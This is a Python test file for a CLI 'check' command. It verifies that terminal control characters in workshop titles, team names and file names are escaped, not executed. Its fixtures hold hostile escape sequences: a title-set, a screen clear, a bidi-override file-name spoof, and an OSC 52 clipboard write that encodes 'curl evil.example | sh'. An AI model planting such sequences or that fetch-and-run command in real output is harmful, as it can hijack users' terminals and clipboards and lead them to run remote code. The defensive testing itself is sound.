"""Terminal escapes (issue 9, item 6): `check` shows control characters, never obeys them.

A title can hold sequences that clear the screen, set the terminal's title, write the
clipboard (OSC 52) or reverse the text (bidi overrides). The human output shows them as
visible escapes; `--json` stays exact; error lines about a hostile file name are safe too.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from alignment_workshop.analysis import analyze
from alignment_workshop.check_output import report_to_json
from alignment_workshop.fileio import load, save
from alignment_workshop.model import Link, LinkKind, Meta, Node, NodeKind, Team, Workshop
from alignment_workshop.terminal import visible
from tests.unit.test_cli import run

CLEAR = "\x1b[2J\x1b[H"
SET_TITLE = "\x1b]0;pwned\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
C1_CSI = "\x9b31m"
REVERSED = "\u202etxt.exe"
HOSTILE = f"Grow{CLEAR}{SET_TITLE}{CLIPBOARD}{C1_CSI}{REVERSED}\r\x08"
#: What a terminal would act on: ESC, BEL, CSI, CR, BS and the bidi override.
OBEYED = ("\x1b", "\x07", "\x9b", "\r", "\x08", "\u202e")


def _hostile_workshop(path: Path) -> Path:
    team = Team(id="t", name=f"Sales{SET_TITLE}")
    orphan = Node(id="g", kind=NodeKind.GOAL, title=HOSTILE, team="t", pos=(0.0, 0.0))
    other = Node(id="h", kind=NodeKind.GOAL, title="Other", team="t", pos=(1.0, 0.0))
    links = [Link(id="l", kind=LinkKind.CONFLICTS, source="g", target="h")]
    save(Workshop.from_records(Meta(), [team], [orphan, other], links), path)
    return path


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\tb\nc", "a\tb\nc"),
        ("\x1b[2J", "\\x1b[2J"),
        ("\x00\x7f\x85\x9f", "\\x00\\x7f\\x85\\x9f"),
        ("\u202e\u2066\u2069\u200f\u061c", "\\u202e\\u2066\\u2069\\u200f\\u061c"),
        ("café ✓ 🙂", "café ✓ 🙂"),
    ],
)
def test_visible_escapes_only_what_a_terminal_obeys(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_check_shows_escapes_instead_of_obeying_them(tmp_path: Path) -> None:
    result = run("check", _hostile_workshop(tmp_path / "plan.alignment"))
    assert result.returncode == 1, result.stderr
    assert not any(char in result.stdout for char in OBEYED)
    assert "Grow\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07\\x1b]52;c;" in result.stdout
    assert "\\u202etxt.exe" in result.stdout
    assert "Sales\\x1b]0;pwned\\x07" in result.stdout


def test_check_json_stays_exact(tmp_path: Path) -> None:
    path = _hostile_workshop(tmp_path / "plan.alignment")
    result = run("check", "--json", path)
    report = json.loads(result.stdout)
    assert report == report_to_json(analyze(load(path)))
    assert report["teams"][0]["name"] == f"Sales{SET_TITLE}"
    assert any(CLIPBOARD in finding["message"] for finding in report["findings"])


def test_an_error_about_a_hostile_file_name_is_safe(tmp_path: Path) -> None:
    name = tmp_path / f"x{SET_TITLE}{REVERSED}.alignment"
    result = run("check", name)
    assert result.returncode == 2
    assert not any(char in result.stderr for char in OBEYED)
    assert result.stderr.endswith("x\\x1b]0;pwned\\x07\\u202etxt.exe.alignment: no such file\n")
